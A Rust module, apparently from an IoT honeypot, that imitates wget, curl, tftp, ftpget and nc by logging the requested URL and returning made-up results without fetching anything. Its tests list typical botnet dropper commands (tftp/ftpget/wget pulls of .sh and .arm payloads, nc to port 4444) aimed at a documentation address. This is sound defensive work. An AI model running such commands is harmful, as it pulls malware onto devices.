//! `wget`, `curl`, `tftp`, `ftpget` and the like: the place is written down, and nothing is fetched.
//!
//! There is no socket here and none below: an answer is made up from the persona.

use super::Shell;
use super::run::Output;
use crate::iot::device::Fetch;
use crate::iot::files::absolute;

/// What a command line asks for.
#[derive(Clone, PartialEq, Eq, Debug)]
struct Wanted {
    url: String,
    file: Option<String>,
}

/// Reads a command line: flags that take a value are skipped with it.
fn wanted(name: &str, args: &[&str]) -> Option<Wanted> {
    let flags: &[&str] = match name {
        "wget" => &["-O", "-P", "-U", "-T", "-t", "-o"],
        "curl" => &["-o", "-A", "-H", "-x", "-m", "-X", "-d", "--connect-timeout", "--max-time"],
        "tftp" => &["-r", "-l", "-c", "-b"],
        "ftpget" => &["-u", "-p", "-P"],
        _ => &["-p", "-l", "-i", "-P", "-w"],
    };
    let value = |flag: &str| {
        args.iter().position(|arg| *arg == flag).and_then(|at| args.get(at + 1)).map(|text| (*text).to_owned())
    };
    let mut plain = Vec::new();
    let mut at = 0;
    while at < args.len() {
        if flags.contains(&args[at]) && !(name == "tftp" && args[at] == "-c") {
            at += 1;
        } else if !args[at].starts_with('-') {
            plain.push(args[at]);
        }
        at += 1;
    }
    let leaf = |url: &str| url.rsplit('/').next().filter(|leaf| !leaf.is_empty()).unwrap_or("index.html").to_owned();
    match name {
        "wget" | "curl" | "axel" | "lwp-download" => {
            let first = *plain.first()?;
            let url = if first.contains("://") { first.to_owned() } else { format!("http://{first}") };
            let to = value("-O").or_else(|| value("-o")).filter(|file| file != "-");
            let saved = name != "curl" || args.iter().any(|arg| arg.starts_with("-O") || arg.contains("remote-name"));
            let file = to.or_else(|| saved.then(|| leaf(&url)));
            Some(Wanted { url, file })
        }
        "tftp" => {
            // `tftp -g -r FILE HOST` and `tftp HOST -c get FILE`.
            let host = plain.iter().find(|word| !matches!(**word, "get" | "put"))?;
            let named = plain.iter().skip_while(|word| **word != "get").nth(1).map(|word| (*word).to_owned());
            let file = value("-r").or(named).or_else(|| value("-l")).unwrap_or_default();
            Some(Wanted {
                url: format!("tftp://{host}/{file}"),
                file: value("-l").or(Some(file)).filter(|file| !file.is_empty()),
            })
        }
        "ftpget" => {
            let host = plain.first()?;
            let local = plain.get(1).map(|word| (*word).to_owned());
            let remote = plain.get(2).copied().or(plain.get(1).copied()).unwrap_or_default();
            Some(Wanted { url: format!("ftp://{host}/{remote}"), file: local })
        }
        _ => {
            let host = plain.first()?;
            let port = plain.get(1).filter(|port| port.bytes().all(|byte| byte.is_ascii_digit()));
            let scheme = if matches!(name, "nc" | "telnet") { "tcp" } else { name };
            Some(Wanted {
                url: port.map_or_else(|| format!("{scheme}://{host}"), |port| format!("{scheme}://{host}:{port}")),
                file: None,
            })
        }
    }
}

impl Shell {
    /// Writes the place down and answers as the persona would.
    pub(super) fn fetch(&mut self, name: &str, args: &[&str]) -> Output {
        let Some(wanted) = wanted(name, args) else {
            return self
                .fail(Output::err(format!("{}\n\nUsage: {name} [OPTIONS] HOST\n\n", self.device.device.busybox)));
        };
        self.note_url(wanted.url.clone());
        let place = wanted.url.split("://").nth(1).unwrap_or_default();
        let host = place.split(['/', ':']).next().unwrap_or_default().to_owned();
        let is_address = host.parse::<std::net::IpAddr>().is_ok();
        match self.device.device.fetch {
            Fetch::Succeeds => {
                if let Some(file) = &wanted.file {
                    let path = absolute(&self.cwd, file);
                    // Made up, and no program: whoever runs it sees it end at once.
                    self.files.write(&path, b"\x7fELF\x01\x01\x01\x00", false);
                }
                Output::default()
            }
            Fetch::TimesOut | Fetch::Refused if !is_address => self.fail(Output::err(match name {
                "curl" => format!("curl: (6) Could not resolve host: {host}\n"),
                _ => format!("{name}: bad address '{host}'\n"),
            })),
            how => {
                let why = if how == Fetch::Refused { "Connection refused" } else { "Connection timed out" };
                self.seconds +=
                    if how == Fetch::Refused { 0 } else { self.device.persona.between("fetch.patience", 3, 9) as u32 };
                self.fail(Output::err(match name {
                    "wget" => format!(
                        "Connecting to {host} ({host}:80)\nwget: can't connect to remote host ({host}): {why}\n"
                    ),
                    "curl" => format!("curl: (7) Failed to connect to {host}: {why}\n"),
                    "tftp" => "tftp: timeout\n".to_owned(),
                    _ => format!("{name}: can't connect to remote host ({host}): {why}\n"),
                }))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(line: &str) -> String {
        let words: Vec<&str> = line.split(' ').collect();
        wanted(words[0], &words[1..]).unwrap().url
    }

    #[test]
    fn every_way_that_bots_write_it() {
        assert_eq!(url("wget -q -O /tmp/x http://192.0.2.1:81/a"), "http://192.0.2.1:81/a");
        assert_eq!(url("wget 192.0.2.1/a"), "http://192.0.2.1/a");
        assert_eq!(url("curl -m 5 -o x http://192.0.2.1/a"), "http://192.0.2.1/a");
        assert_eq!(url("tftp -g -r tftp1.sh 192.0.2.1"), "tftp://192.0.2.1/tftp1.sh");
        assert_eq!(url("tftp -r tftp2.sh -g 192.0.2.1"), "tftp://192.0.2.1/tftp2.sh");
        assert_eq!(url("tftp 192.0.2.1 -c get tftp1.sh"), "tftp://192.0.2.1/tftp1.sh");
        assert_eq!(url("tftp -g -l x -r b.arm 192.0.2.1"), "tftp://192.0.2.1/b.arm");
        assert_eq!(
            url("ftpget -v -u anonymous -p anonymous -P 21 192.0.2.1 ftp1.sh ftp1.sh"),
            "ftp://192.0.2.1/ftp1.sh"
        );
        assert_eq!(url("nc 192.0.2.1 4444"), "tcp://192.0.2.1:4444");
    }
}
